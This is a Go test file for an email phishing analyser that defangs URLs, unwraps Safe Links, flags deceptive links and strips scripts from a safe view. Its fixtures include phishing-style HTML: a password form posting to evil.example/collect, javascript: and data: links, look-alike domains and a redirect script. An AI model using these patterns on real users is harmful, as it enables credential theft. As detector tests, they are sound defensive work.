package email

import (
	"encoding/base64"
	"strings"
	"testing"
)

func TestDefang(t *testing.T) {
	tests := map[string]string{
		"https://evil.example/login?next=a.b":        "hxxps://evil[.]example/login?next=a.b",
		"http://10.0.0.1:8080/x":                     "hxxp://10[.]0[.]0[.]1:8080/x",
		"HTTPS://Evil.Example":                       "HxxPS://Evil[.]Example",
		"ftp://files.example/a.zip":                  "fxp://files[.]example/a.zip",
		"hxxps://evil[.]example/x":                   "hxxps://evil[.]example/x", // defanging twice does no harm
		"https://a.example/?next=HTTPS://b.example/": "hxxps://a[.]example/?next=HxxPS://b.example/",
		"http://https://":                            "hxxp://hxxps://", // however odd, no live scheme is left
	}
	for in, want := range tests {
		if got := defang(in); got != want {
			t.Errorf("defang(%q) = %q, want %q", in, got, want)
		}
	}
	if got := DefangText("see https://a.example/x and http://b.example."); got != "see hxxps://a[.]example/x and hxxp://b[.]example." {
		t.Errorf("DefangText = %q", got)
	}
}

func TestSafeLinksAreUnwrapped(t *testing.T) {
	inner := "https://eur03.safelinks.protection.outlook.com/?url=https%3A%2F%2Fevil.example%2Fpay&data=05%7C02&reserved=0"
	twice := "https://nam12.safelinks.protection.outlook.com/?url=" + strings.NewReplacer(":", "%3A", "/", "%2F", "?", "%3F", "=", "%3D", "&", "%26", "%", "%25").Replace(inner) + "&data=x"
	a := analyseHTML(t, `<a href="`+twice+`">Open</a>`)
	if len(a.URLs) != 1 || a.URLs[0].URL != "https://evil.example/pay" || a.URLs[0].Wrapper != twice {
		t.Errorf("urls = %+v, want the twice-wrapped link unwrapped", a.URLs)
	}
}

func TestLinkChecks(t *testing.T) {
	to := "jane.smith@nhs.net"
	b64 := base64.StdEncoding.EncodeToString([]byte(to))
	tests := []struct {
		name string
		html string
		want IndicatorCode
	}{
		{"words show another site", `<a href="https://evil.example/x">www.nhs.uk/login</a>`, CodeLinkTextMismatch},
		{"words show another site behind Safe Links", `<a href="https://eur03.safelinks.protection.outlook.com/?url=https%3A%2F%2Fevil.example">https://portal.nhs.net</a>`, CodeLinkTextMismatch},
		{"bare IP address", `<a href="http://198.51.100.23/owa/">Sign in</a>`, CodeIPAddressLink},
		{"script instead of a page", `<a href="javascript:alert(1)">Open</a>`, CodeUnusualScheme},
		{"page hidden in a data link", `<a href="data:text/html;base64,PGgxPkhpPC9oMT4=">Open</a>`, CodeUnusualScheme},
		{"destination after an @", `<a href="https://nhs.net@evil.example/">Open</a>`, CodeHiddenUserInfo},
		{"recipient written in", `<a href="https://evil.example/?e=` + to + `">Open</a>`, CodeRecipientInLink},
		{"recipient in base64", `<a href="https://evil.example/#` + b64 + `">Open</a>`, CodeRecipientInLink},
		{"shortener", `<a href="https://bit.ly/3xYz">Open</a>`, CodeLinkShortener},
		{"international name", `<a href="https://xn--bcher-kva.de/">Open</a>`, CodeInternationalLink},
		{"look-alike", `<a href="https://nhs.net.secure-login.com/">Open</a>`, CodeLookalikeLink},
		{"refresh redirect", `<meta http-equiv="refresh" content="0; url=https://nhs-net.com/">`, CodeLookalikeLink},
		{"form posting away", `<form action="https://nhs-net.com/collect"><input type="password"></form>`, CodeLookalikeLink},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			a := analyseHTML(t, tt.html)
			wantIndicators(t, a, tt.want)
			checkInvariants(t, a)
		})
	}
}

func TestMatchingLinkWordsAreNotFlagged(t *testing.T) {
	a := analyseHTML(t, `<a href="https://www.nhs.uk/conditions/flu/">www.nhs.uk/conditions/flu</a> `+
		`<a href="https://eur03.safelinks.protection.outlook.com/?url=https%3A%2F%2Fportal.nhs.net%2F">portal.nhs.net</a> `+
		`<a href="mailto:help@nhs.net">help@nhs.net</a> <a href="#top">Back to top</a> <a href="/relative">Relative</a>`)
	noIndicators(t, a, CodeLinkTextMismatch, CodeUnusualScheme)
	if len(a.URLs) != 2 {
		t.Errorf("urls = %+v, want the two web links only", a.URLs)
	}
}

func TestLinksAreListedOnceWithEverySource(t *testing.T) {
	raw := "From: a@example.com\r\nTo: b@nhs.net\r\nSubject: x\r\nMIME-Version: 1.0\r\n" +
		"Content-Type: multipart/alternative; boundary=b\r\n\r\n" +
		"--b\r\nContent-Type: text/plain\r\n\r\nGo to https://site.example/a, or https://site.example/a.\r\n" +
		"--b\r\nContent-Type: text/html\r\n\r\n<a href=\"https://site.example/a\">here</a><img src=\"https://tracker.example/p.gif\">\r\n--b--\r\n"
	a, err := Analyse([]byte(raw), nhsTrust)
	if err != nil {
		t.Fatal(err)
	}
	if len(a.URLs) != 2 || a.URLs[0].URL != "https://site.example/a" || strings.Join(a.URLs[0].Sources, ",") != "text,html" ||
		a.URLs[1].Domain != "tracker.example" {
		t.Errorf("urls = %+v", a.URLs)
	}
}

func TestSafeViewNeitherLoadsNorLinks(t *testing.T) {
	a := analyseHTML(t, `<html><head><title>T</title><style>body{background:url(https://x.example/bg)}</style>
<script>document.location='https://evil.example/'</script></head>
<body onload="steal()"><p style="color:red" class="x">Dear <b>colleague</b>,</p>
<img src="https://tracker.example/pixel.gif" onerror="alert(1)" alt="logo"><img src="cid:logo@x">
<a href="https://eur03.safelinks.protection.outlook.com/?url=https%3A%2F%2Fevil.example%2Flogin">Sign in</a>
<form action="https://evil.example/collect"><input type="password" name="p"></form>
<p>Or paste https://evil.example/manual into your browser.</p><!-- hidden note --></body></html>`)
	v := a.Body
	checkInvariants(t, a)
	for _, want := range []string{
		"Dear <b>colleague</b>",
		"Sign in [link: hxxps://evil[.]example/login]",
		"[picture from hxxps://tracker[.]example/pixel.gif: &#34;logo&#34;]",
		"[picture attached to the message]",
		"[form sending to: hxxps://evil[.]example/collect]",
		"[password box]",
		"paste hxxps://evil[.]example/manual into",
	} {
		if !strings.Contains(v.HTML, want) {
			t.Errorf("safe HTML lacks %q:\n%s", want, v.HTML)
		}
	}
	for _, bad := range []string{"steal", "document.location", "background", "hidden note", "<title", "class="} {
		if strings.Contains(v.HTML, bad) || strings.Contains(v.Text, bad) {
			t.Errorf("safe view keeps %q:\nHTML %s\ntext %s", bad, v.HTML, v.Text)
		}
	}
	if !strings.Contains(v.Text, "Sign in [link: hxxps://evil[.]example/login]") {
		t.Errorf("text view = %q", v.Text)
	}
}

// analyseHTML analyses a message sent to jane.smith@nhs.net whose body is the given HTML.
func analyseHTML(t *testing.T, body string) *Analysis {
	t.Helper()
	raw := "From: \"Sender\" <sender@example.com>\r\nTo: jane.smith@nhs.net\r\nSubject: Test\r\n" +
		"MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" + body + "\r\n"
	a, err := Analyse([]byte(raw), nhsTrust)
	if err != nil {
		t.Fatal(err)
	}
	return a
}

// TestInternationalNameOnlyInFrontOfAnOrdinaryDomain checks that foreign letters in a made-up
// name in front of an ordinary domain are a high sign, while an international domain of its
// own stays a medium one.
func TestInternationalNameOnlyInFrontOfAnOrdinaryDomain(t *testing.T) {
	for _, tt := range []struct {
		href string
		want Severity
	}{
		{"https://xn--kjcktqrlq-95a2o93b.avmoko.example.net/p", High},
		{"https://xn--bcher-kva.de/", Medium},
	} {
		a := analyseRaw(t, "From: <news@shop.example>\r\nTo: jane.smith@nhs.net\r\nSubject: Offer\r\nContent-Type: text/html\r\n\r\n<a href=\""+tt.href+"\">Open</a>\r\n")
		if in, ok := indicator(a, CodeInternationalLink); !ok || in.Severity != tt.want {
			t.Errorf("%s: %+v, want %s", tt.href, in, tt.want)
		}
	}
}
